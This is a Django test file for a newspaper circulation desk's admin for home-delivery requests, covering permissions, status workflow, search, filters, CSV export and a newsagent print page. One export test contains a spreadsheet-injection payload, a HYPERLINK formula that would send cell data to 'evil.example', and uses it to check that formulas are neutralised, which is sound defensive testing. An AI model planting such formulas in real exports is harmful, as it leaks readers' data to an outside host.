"""The circulation desk's admin: who may see what, and the work on requests."""

import csv
import importlib
import io
import sys
from datetime import timedelta

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group, Permission
from django.core.exceptions import ValidationError
from django.urls import clear_url_caches

from articles.models import Article
from subscriptions.delivery import (
    DeliveryTransitionError,
    delivery_earliest_start,
    delivery_request_transition,
)
from subscriptions.models import DeliveryRequest, DeliveryRequestEvent
from subscriptions.roles import ensure_roles
from tests.factories import make_staff
from tests.subscriptions.factories import (
    make_delivery_area,
    make_delivery_request,
)

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/subscriptions/deliveryrequest/"
Status = DeliveryRequest.Status


@pytest.fixture
def desk(client):
    user = make_staff("desk", groups=["Circulation"], first_name="Dana")
    client.force_login(user)
    return user


@pytest.fixture
def article_admin():
    """The articles admin, registered plainly when no richer one is installed."""
    if admin.site.is_registered(Article):
        yield
        return
    admin.site.register(Article)
    _reload_urls()
    yield
    admin.site.unregister(Article)
    _reload_urls()


def _reload_urls():
    importlib.reload(sys.modules["newsroom.urls"])
    clear_url_caches()


def test_circulation_group_has_exactly_the_delivery_permissions():
    """The data migration's group may work requests and areas, and nothing more."""
    codenames = set(
        Group.objects.get(name="Circulation").permissions.values_list(
            "content_type__app_label", "codename"
        )
    )
    assert codenames == {
        ("subscriptions", "view_deliveryrequest"),
        ("subscriptions", "change_deliveryrequest"),
        ("subscriptions", "view_deliveryarea"),
        ("subscriptions", "add_deliveryarea"),
        ("subscriptions", "change_deliveryarea"),
        ("subscriptions", "view_deliveryroutingkey"),
        ("subscriptions", "add_deliveryroutingkey"),
        ("subscriptions", "change_deliveryroutingkey"),
        ("subscriptions", "delete_deliveryroutingkey"),
    }


def ensure_circulation_group():
    ensure_roles()
    return Group.objects.get(name="Circulation")


def test_ensure_roles_puts_back_what_the_migration_made_circulation():
    """
    Made again after a flush, or with a stray permission added, the group
    has exactly the permissions the data migration gave it.
    """
    group = Group.objects.get(name="Circulation")
    made = set(group.permissions.all())
    group.permissions.add(Permission.objects.get(codename="delete_deliveryrequest"))

    assert set(ensure_circulation_group().permissions.all()) == made
    group.delete()
    assert set(ensure_circulation_group().permissions.all()) == made


def test_anonymous_visitor_is_sent_to_the_login_page(client):
    """The desk's list is behind the admin login."""
    response = client.get(CHANGELIST)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_circulation_user_sees_delivery_but_not_articles(client, desk, article_admin):
    """A desk member opens requests and areas; the articles admin answers 403."""
    assert client.get(CHANGELIST).status_code == 200
    assert client.get("/admin/subscriptions/deliveryarea/").status_code == 200
    assert client.get("/admin/articles/article/").status_code == 403
    index = client.get("/admin/").text
    assert "Delivery requests" in index
    assert "Articles" not in index


def test_editor_cannot_see_delivery_requests(client, article_admin):
    """An editor with article permissions gets 403 on the delivery requests."""
    editor = make_staff(
        "editor",
        permissions=["articles.view_article", "articles.change_article"],
    )
    client.force_login(editor)
    assert client.get("/admin/articles/article/").status_code == 200
    assert client.get(CHANGELIST).status_code == 403
    request = make_delivery_request()
    assert client.get(f"{CHANGELIST}{request.pk}/change/").status_code == 403
    assert client.get(f"{CHANGELIST}export/").status_code == 403
    assert client.get(f"{CHANGELIST}starts-and-stops/").status_code == 403


def test_desk_assigns_requests_to_themselves(client, desk):
    """'Assign to me' gives the requests to the user and records it."""
    first, second = make_delivery_request(), make_delivery_request()
    response = client.post(
        CHANGELIST,
        {"action": "assign_to_me", "_selected_action": [first.pk, second.pk]},
        follow=True,
    )
    assert "2 request(s) assigned to you." in response.text
    for request in (first, second):
        request.refresh_from_db()
        assert request.assigned_to == desk
        event = request.events.get()
        assert event.kind == DeliveryRequestEvent.Kind.ASSIGNED
        assert event.actor == desk


def test_desk_moves_a_request_on_with_a_note(client, desk):
    """The action asks for a note, then moves the request and records who and why."""
    request = make_delivery_request()
    ask = client.post(
        CHANGELIST,
        {"action": "move_to_contacted", "_selected_action": [request.pk]},
    )
    assert ask.status_code == 200
    assert "note" in ask.text and request.reference in ask.text
    request.refresh_from_db()
    assert request.status == Status.NEW

    done = client.post(
        CHANGELIST,
        {
            "action": "move_to_contacted",
            "_selected_action": [request.pk],
            "apply": "1",
            "note": "Rang the reader; call back Friday.",
        },
        follow=True,
    )
    assert "1 request(s) moved to contacted." in done.text
    request.refresh_from_db()
    assert request.status == Status.CONTACTED
    event = request.events.get()
    assert (event.from_status, event.to_status) == ("new", "contacted")
    assert event.actor == desk
    assert event.note == "Rang the reader; call back Friday."

    page = client.get(f"{CHANGELIST}{request.pk}/change/").text
    assert "Rang the reader; call back Friday." in page
    assert "Dana" in page


def test_invalid_transition_is_refused_with_a_message(client, desk):
    """New cannot jump to active: the request stays, the desk is told why."""
    request = make_delivery_request()
    response = client.post(
        CHANGELIST,
        {"action": "move_to_active", "_selected_action": [request.pk], "apply": "1"},
        follow=True,
    )
    assert f"{request.reference} is new and cannot be moved to active." in response.text
    request.refresh_from_db()
    assert request.status == Status.NEW
    assert not request.events.exists()


def test_full_workflow_to_ended_records_every_step(client, desk):
    """new → contacted → scheduled → active → ended, each step in the history."""
    request = make_delivery_request()
    stop = delivery_earliest_start() + timedelta(days=30)
    for status in ("contacted", "scheduled", "active", "ended"):
        data = {
            "action": f"move_to_{status}",
            "_selected_action": [request.pk],
            "apply": "1",
        }
        if status == "ended":
            data["day"] = stop.isoformat()
        client.post(CHANGELIST, data)
    request.refresh_from_db()
    assert request.status == Status.ENDED
    assert request.stop_date == stop
    assert request.closed_at is not None
    assert [e.to_status for e in request.events.all()] == [
        "contacted",
        "scheduled",
        "active",
        "ended",
    ]


def test_ending_needs_the_stop_date(client, desk):
    """An active delivery is only ended with the first day without delivery."""
    request = make_delivery_request(status=Status.ACTIVE)
    response = client.post(
        CHANGELIST,
        {"action": "move_to_ended", "_selected_action": [request.pk], "apply": "1"},
    )
    assert "Give the first day without delivery." in response.text
    request.refresh_from_db()
    assert request.status == Status.ACTIVE


def test_every_way_of_ending_without_a_stop_date_says_the_same(client, desk):
    """The change form, the workflow function and the model refuse it alike."""
    request = make_delivery_request(status=Status.ACTIVE)
    form = client.post(
        f"{CHANGELIST}{request.pk}/change/",
        {"assigned_to": "", "area": "", "move_to": "ended", "day": "", "note": ""},
    )
    assert form.status_code == 200
    assert "Give the first day without delivery." in form.text

    with pytest.raises(DeliveryTransitionError) as refused:
        delivery_request_transition(request, Status.ENDED, actor=desk)
    assert str(refused.value) == (
        f"{request.reference}: Give the first day without delivery."
    )

    request.status = Status.ENDED
    with pytest.raises(ValidationError) as invalid:
        request.full_clean()
    assert invalid.value.messages == ["Give the first day without delivery."]
    request.refresh_from_db()
    assert request.status == Status.ACTIVE


def test_change_form_keeps_reader_fields_read_only(client, desk):
    """Staff can assign, move on and note; what the reader sent cannot be edited."""
    request = make_delivery_request(name="Seán Ó Ríordáin")
    url = f"{CHANGELIST}{request.pk}/change/"
    response = client.post(
        url,
        {
            "name": "Someone Else",
            "email": "other@example.ie",
            "assigned_to": desk.pk,
            "area": "",
            "move_to": "contacted",
            "day": "",
            "note": "Left a voicemail.",
        },
    )
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.name == "Seán Ó Ríordáin"
    assert request.email.startswith("reader")
    assert request.assigned_to == desk
    assert request.status == Status.CONTACTED
    assert [(e.kind, e.note) for e in request.events.all()] == [
        ("assigned", ""),
        ("status", "Left a voicemail."),
    ]


def test_requests_cannot_be_deleted_or_added(client, desk, admin_user):
    """Cancel instead of delete, even for a superuser; requests come from readers."""
    request = make_delivery_request()
    assert client.get(f"{CHANGELIST}{request.pk}/delete/").status_code == 403
    client.force_login(admin_user)
    assert client.get(f"{CHANGELIST}{request.pk}/delete/").status_code == 403
    assert client.get(f"{CHANGELIST}add/").status_code == 403
    assert "delete_selected" not in client.get(CHANGELIST).text


@pytest.mark.parametrize(
    ("term", "found"),
    [
        ("HD-7K3Q9P", True),
        ("7k3q9p", True),
        ("Gráinne", True),
        ("grainne.uaimh@example", True),
        ("086 765 4321", True),
        ("+353867654321", True),
        ("h91x2y3", True),
        ("H91 X2Y3", True),
        ("087 111 2222", False),
    ],
)
def test_search_by_reference_name_email_phone_and_eircode(client, desk, term, found):
    """Staff find a request however they type what the reader gave."""
    wanted = make_delivery_request(
        reference="HD-7K3Q9P",
        name="Gráinne Uaimh",
        email="grainne.uaimh@example.ie",
        phone="+353867654321",
        eircode="H91 X2Y3",
    )
    other = make_delivery_request()
    response = client.get(CHANGELIST, {"q": term})
    results = list(response.context["cl"].result_list)
    assert (wanted in results) is found
    assert other not in results


def test_filters_by_status_area_and_assignee(client, desk):
    """Status, area (including out of area) and 'assigned to me' narrow the list."""
    area = make_delivery_area(name="Athlone", routing_keys=["N37"])
    mine = make_delivery_request(area=area, assigned_to=desk)
    outside = make_delivery_request(area=None, status=Status.CONTACTED)

    def listed(params):
        return set(client.get(CHANGELIST, params).context["cl"].result_list)

    assert listed({"assigned": "me"}) == {mine}
    assert listed({"area": "none"}) == {outside}
    assert listed({"area": str(area.pk)}) == {mine}
    assert listed({"status": "contacted"}) == {outside}
    closed = make_delivery_request(status=Status.DECLINED)
    assert closed not in listed({"status": "open"})
    assert listed({"status": "open"}) == {mine, outside}


@pytest.mark.parametrize(
    ("choice", "offsets"),
    [("tomorrow", {1}), ("week", {1, 7}), ("later", {8}), ("past", {0, -3})],
)
def test_start_date_filter_looks_ahead_as_the_desk_plans(client, desk, choice, offsets):
    """Tomorrow, the next 7 days, later, or already due: counted in Irish dates."""
    today = delivery_earliest_start() - timedelta(days=1)
    by_offset = {
        offset: make_delivery_request(start_date=today + timedelta(days=offset))
        for offset in (-3, 0, 1, 7, 8)
    }
    listed = set(client.get(CHANGELIST, {"starts": choice}).context["cl"].result_list)
    assert listed == {by_offset[offset] for offset in offsets}


def test_changelist_queries_do_not_grow_with_rows(
    client, desk, django_assert_num_queries
):
    """The list costs the same number of queries for 2 rows as for 20."""
    area = make_delivery_area()
    for _ in range(2):
        make_delivery_request(area=area, assigned_to=desk)
    with django_assert_num_queries(8) as few:
        client.get(CHANGELIST)
    for _ in range(18):
        make_delivery_request(
            area=make_delivery_area(routing_keys=[]), assigned_to=desk
        )
    with django_assert_num_queries(8) as many:
        response = client.get(CHANGELIST)
    assert len(few.captured_queries) == len(many.captured_queries)
    assert len(response.context["cl"].result_list) == 20


def _export(client, params=None):
    response = client.get(f"{CHANGELIST}export/", params or {})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_follows_the_filters_and_neutralises_formulas(client, desk):
    """Only the filtered rows are exported, and a formula is written as text."""
    hostile = make_delivery_request(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        notes="+1 extra copy",
        leave_at="@porch",
    )
    make_delivery_request(status=Status.CONTACTED)
    rows = _export(client, {"status": "new"})
    header, *body = rows
    assert header[0] == "Reference"
    assert [row[0] for row in body] == [hostile.reference]
    row = dict(zip(header, body[0], strict=True))
    assert row["Name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["Reader's notes"] == "'+1 extra copy"
    assert row["Leave at"] == "'@porch"
    assert row["Phone"] == "'+353871234567"


def test_starts_and_stops_lists_each_newsagent_for_the_day(client, desk):
    """Whom each newsagent begins and stops delivering to, on a printable page."""
    day = delivery_earliest_start() + timedelta(days=3)
    lyons = make_delivery_area(name="Athlone", newsagent="Lyons", routing_keys=["N37"])
    keane = make_delivery_area(name="Ennis", newsagent="Keane", routing_keys=["V95"])
    starting = make_delivery_request(
        area=lyons, status=Status.SCHEDULED, start_date=day, name="Starting Reader"
    )
    stopping = make_delivery_request(
        area=keane, status=Status.ENDED, stop_date=day, name="Stopping Reader"
    )
    make_delivery_request(area=lyons, status=Status.NEW, start_date=day, name="Unsure")
    make_delivery_request(
        area=lyons, status=Status.SCHEDULED, start_date=day + timedelta(days=1)
    )
    response = client.get(f"{CHANGELIST}starts-and-stops/", {"date": day.isoformat()})
    assert response.status_code == 200
    newsagents = response.context["newsagents"]
    assert list(newsagents) == ["Keane", "Lyons"]
    assert newsagents["Lyons"]["starts"] == [starting]
    assert newsagents["Lyons"]["stops"] == []
    assert newsagents["Keane"]["stops"] == [stopping]
    assert "Unsure" not in response.text
    assert "delivery-print.css" in response.text


def test_starts_and_stops_refuses_a_bad_date(client, desk):
    """A date that is not a date is explained, and tomorrow is shown instead."""
    response = client.get(f"{CHANGELIST}starts-and-stops/", {"date": "31/02"})
    assert "Enter the date as YYYY-MM-DD." in response.text
    assert response.context["day"] == delivery_earliest_start()
